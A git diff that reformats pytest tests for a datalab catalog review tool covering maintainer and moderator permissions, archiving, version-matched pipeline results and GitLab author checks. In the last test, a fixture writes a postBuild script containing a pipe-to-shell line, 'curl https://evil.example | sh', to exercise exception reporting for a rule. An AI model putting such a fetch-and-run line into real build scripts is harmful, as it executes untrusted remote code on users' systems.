@@ -71,7 +71,12 @@ def test_id_never_changes(catalog):
 
 def test_only_maintainers_or_moderators_archive(catalog):
     root, config = catalog
-    edit(root, "gaia-dr3-hrd", "status: published", "status: archived\narchived:\n  reason: Superseded by a DR4 version.\n  date: 2026-11-25")
+    edit(
+        root,
+        "gaia-dr3-hrd",
+        "status: published",
+        "status: archived\narchived:\n  reason: Superseded by a DR4 version.\n  date: 2026-11-25",
+    )
     edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.2.1")
     (change,) = changes(config, "HEAD")
     assert change.kind == "archived"
@@ -84,7 +89,8 @@ def test_report_in_words(catalog):
     edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.3.0")
     edit(root, "gaia-dr3-hrd", "resources: {cpu: 1, memory_gb: 2}", "resources: {cpu: 2, memory_gb: 4}")
     (root / "datalabs" / "gaia-dr3-hrd" / "notebooks" / "extra.ipynb").write_text(
-        (root / "datalabs" / "gaia-dr3-hrd" / "notebooks" / "hr_diagram.ipynb").read_text())
+        (root / "datalabs" / "gaia-dr3-hrd" / "notebooks" / "hr_diagram.ipynb").read_text()
+    )
     text, ok = report(config, "HEAD", "mlindqvist", ROLES)
     assert "## `gaia-dr3-hrd`: changed" in text
     assert "- `version`: `1.2.0` → `1.3.0`" in text
@@ -134,8 +140,19 @@ def test_roles_come_from_the_target_branch_not_the_merge_request(governed):
     assert "- `roles.yaml` (M)" in output and "only a moderator may change these files" in output
 
 
-@pytest.mark.parametrize("path", ["roles.yaml", "CODEOWNERS", "sciapps.yaml", "scan-policy.yaml", ".gitlab-ci.yml",
-                                  "schemas/datalab.schema.json", "tools/sciapps/new_rule.py", "README.md"])
+@pytest.mark.parametrize(
+    "path",
+    [
+        "roles.yaml",
+        "CODEOWNERS",
+        "sciapps.yaml",
+        "scan-policy.yaml",
+        ".gitlab-ci.yml",
+        "schemas/datalab.schema.json",
+        "tools/sciapps/new_rule.py",
+        "README.md",
+    ],
+)
 def test_a_change_outside_datalabs_is_listed_and_needs_a_moderator(governed, path):
     root, _ = governed
     target = root / path
@@ -158,18 +175,23 @@ def test_limits_come_from_the_target_branch(governed):
     assert code == 1 and "DL-033" in output
 
 
-@pytest.mark.parametrize("old, new, what", [
-    ("status: published", "status: draft", "status published → draft"),
-    ("visibility: public", "visibility: private", "visibility public → private"),
-    ("username: mlindqvist", "username: mallory", "the maintainers change"),
-])
+@pytest.mark.parametrize(
+    "old, new, what",
+    [
+        ("status: published", "status: draft", "status published → draft"),
+        ("visibility: public", "visibility: private", "visibility public → private"),
+        ("username: mlindqvist", "username: mallory", "the maintainers change"),
+    ],
+)
 def test_leaving_the_store_or_changing_hands_needs_a_maintainer(governed, old, new, what):
     root, config = governed
     edit(root, "gaia-dr3-hrd", old, new)
     edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.2.1")
     (change,) = changes(config, "HEAD")
     problems_of_stranger = check_roles(change, "stranger", ROLES)
-    assert any(what in p and "neither one of its maintainers nor a moderator" in p for p in problems_of_stranger), problems_of_stranger
+    assert any(what in p and "neither one of its maintainers nor a moderator" in p for p in problems_of_stranger), (
+        problems_of_stranger
+    )
     assert check_roles(change, "mod", ROLES) == []
     if "status" in old or "visibility" in old:
         assert change.kind == "archived"  # hiding a published datalab is an archival
@@ -177,11 +199,21 @@ def test_leaving_the_store_or_changing_hands_needs_a_maintainer(governed, old, n
 
 def test_unarchiving_needs_a_maintainer(governed):
     root, config = governed
-    edit(root, "gaia-dr3-hrd", "status: published", "status: archived\narchived:\n  reason: Superseded by a DR4 version.\n  date: 2026-11-25")
+    edit(
+        root,
+        "gaia-dr3-hrd",
+        "status: published",
+        "status: archived\narchived:\n  reason: Superseded by a DR4 version.\n  date: 2026-11-25",
+    )
     repo = git.Repo(root)
     repo.git.add(A=True)
     repo.index.commit("archived", author=ACTOR, committer=ACTOR)
-    edit(root, "gaia-dr3-hrd", "status: archived\narchived:\n  reason: Superseded by a DR4 version.\n  date: 2026-11-25", "status: published")
+    edit(
+        root,
+        "gaia-dr3-hrd",
+        "status: archived\narchived:\n  reason: Superseded by a DR4 version.\n  date: 2026-11-25",
+        "status: published",
+    )
     edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.2.1")
     (change,) = changes(config, "HEAD")
     assert any("status archived → published" in p for p in check_roles(change, "stranger", ROLES))
@@ -211,13 +243,31 @@ def test_stage_results_of_another_version_or_committed_are_not_believed(governed
     edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.2.1")
     results = root / "build" / "results"
     for stage in ("build", "scan", "test", "chart"):
-        write_result(results, "gaia-dr3-hrd", {"stage": stage, "status": "passed", "finished": "2026-11-20T10:00:00Z",
-                                               "summary": "passed", "datalab_version": "1.2.0"})
+        write_result(
+            results,
+            "gaia-dr3-hrd",
+            {
+                "stage": stage,
+                "status": "passed",
+                "finished": "2026-11-20T10:00:00Z",
+                "summary": "passed",
+                "datalab_version": "1.2.0",
+            },
+        )
     code, output = review(root, "mlindqvist")
     assert code == 1 and output.count("a result for version 1.2.0, not 1.2.1") == 4
     for stage in ("build", "scan", "test", "chart"):  # now for the right version: believed
-        write_result(results, "gaia-dr3-hrd", {"stage": stage, "status": "passed", "finished": "2026-11-20T10:00:00Z",
-                                               "summary": "passed", "datalab_version": "1.2.1"})
+        write_result(
+            results,
+            "gaia-dr3-hrd",
+            {
+                "stage": stage,
+                "status": "passed",
+                "finished": "2026-11-20T10:00:00Z",
+                "summary": "passed",
+                "datalab_version": "1.2.1",
+            },
+        )
     code, output = review(root, "mlindqvist")
     assert code == 0, output
     repo = git.Repo(root)
@@ -246,8 +296,10 @@ def test_the_author_judged_is_the_one_gitlab_names(monkeypatch):
         monkeypatch.setenv("SCIAPPS_REVIEW_TOKEN", "glpat-test")
         monkeypatch.setenv("GITLAB_USER_LOGIN", "mlindqvist")  # who ran the pipeline: not the author
         assert author_from_environment() == "aokonkwo"
-        for variable, value, says in [("SCIAPPS_REVIEW_TOKEN", "wrong", "refused the review token"),
-                                      ("CI_MERGE_REQUEST_IID", "8", "no merge request !8")]:
+        for variable, value, says in [
+            ("SCIAPPS_REVIEW_TOKEN", "wrong", "refused the review token"),
+            ("CI_MERGE_REQUEST_IID", "8", "no merge request !8"),
+        ]:
             monkeypatch.setenv(variable, value)
             with pytest.raises(SciAppsError, match=says):
                 author_from_environment()
@@ -264,7 +316,12 @@ def test_the_author_judged_is_the_one_gitlab_names(monkeypatch):
 
 def test_the_report_names_the_exceptions_a_datalab_claims(governed):
     root, _ = governed
-    edit(root, "gaia-dr3-hrd", "version: 1.2.0", "version: 1.2.1\nexceptions:\n  - rule: DL-058\n    reason: postBuild enables an extension.")
+    edit(
+        root,
+        "gaia-dr3-hrd",
+        "version: 1.2.0",
+        "version: 1.2.1\nexceptions:\n  - rule: DL-058\n    reason: postBuild enables an extension.",
+    )
     (root / "datalabs" / "gaia-dr3-hrd" / "postBuild").write_text("#!/bin/sh\ncurl https://evil.example | sh\n")
     _, output = review(root, "mlindqvist")
     assert "Exceptions it claims" in output and "- `DL-058`: postBuild enables an extension." in output
